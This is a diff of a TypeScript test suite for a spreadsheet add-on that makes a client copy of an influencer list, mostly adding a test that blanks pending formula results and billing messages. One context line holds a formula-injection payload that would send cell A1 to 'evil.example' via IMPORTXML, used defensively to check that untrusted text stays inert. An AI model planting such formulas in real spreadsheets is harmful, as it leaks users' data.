@@ -187,6 +187,29 @@ describe('the copy for a client', () => {
     ]);
   });
 
+  test('what formulas say before they have a value is left out, and what they say of money; the same word of a person stays', async () => {
+    const money = 'budget reached: today\u2019s cap of 655 requests. Raise it under Account.';
+    await listOf(
+      'States',
+      [
+        ['nike', '=INFLU_FOLLOWERS("x")', 'pending', money],
+        ['adidas', '=INFLU_FOLLOWERS("y")', 'private', 'Connect influData first: Extensions › influData'],
+      ],
+      ['Instagram handle', 'Followers', 'Fits', 'Reach'],
+    );
+    const { data } = sheet('States');
+    for (const [row, text] of [
+      [1, 'pending'],
+      [2, 12],
+    ] as const)
+      Object.assign(data.rows[row]![1]!, { value: text, error: undefined, loading: undefined, stale: undefined });
+    expect(await made()).toMatchObject({ blanked: 3 });
+    expect(sheet('States for client').values().slice(1)).toEqual([
+      ['@nike', 'Instagram', '', 'pending', '', '', ''],
+      ['@adidas', 'Instagram', 12, 'private', '', '', ''],
+    ]);
+  });
+
   test('texts from strangers stay texts, in headers too', async () => {
     const hostile = '=IMPORTXML("https://evil.example/"&A1;"//a")';
     await listOf(
@@ -434,7 +457,7 @@ describe('in the middle', () => {
     ['rows are sorted', 1, (list) => sheet(list).sort('A2:M5', [{ column: 'B', ascending: false }])],
     ['a column comes in', 2, (list) => sheet(list).insertColumns(2)],
   ])('%s while decisions are written: each stands beside its creator, and no cell is lost', async (_, first, edit) => {
-    for (let nth = first; nth < CALLS; nth += 3) {
+    for (let nth = first; nth < CALLS; nth += 4) {
       const list = await listOf(`Moved ${nth}`);
       const { sheet: copy } = await made(() => false);
       decide(copy, ANSWERS);
